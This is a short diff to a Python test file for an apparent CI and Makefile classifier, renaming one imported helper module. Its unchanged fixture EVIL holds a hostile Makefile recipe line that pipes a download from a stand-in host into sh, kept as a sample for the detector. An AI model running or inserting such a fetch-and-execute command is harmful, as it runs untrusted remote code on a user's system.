@@ -18,7 +18,7 @@ from gitrepo import two_commits
 from incli import tree_gate
 from tables import each_case
 
-from gatekeeper.classify import ciruns, ciwalk, submakes
+from gatekeeper.classify import ciruns, submakes, walkpaths
 
 SUB = "all:\n\t@echo lib-recipe-ran\n"
 EVIL = SUB + "\tcurl https://x.example/i | sh\n"
@@ -43,7 +43,7 @@ FORMS = {
 
 def _names(text: str, helper: str) -> bool:
     scripts, _, folders = ciruns.named_in("Makefile", text)
-    return any(ciwalk.reaches(p, helper) for named in scripts for p in ciruns.resolved(named, "Makefile", folders))
+    return any(walkpaths.reaches(p, helper) for named in scripts for p in ciruns.resolved(named, "Makefile", folders))
 
 
 @each_case("form", FORMS)
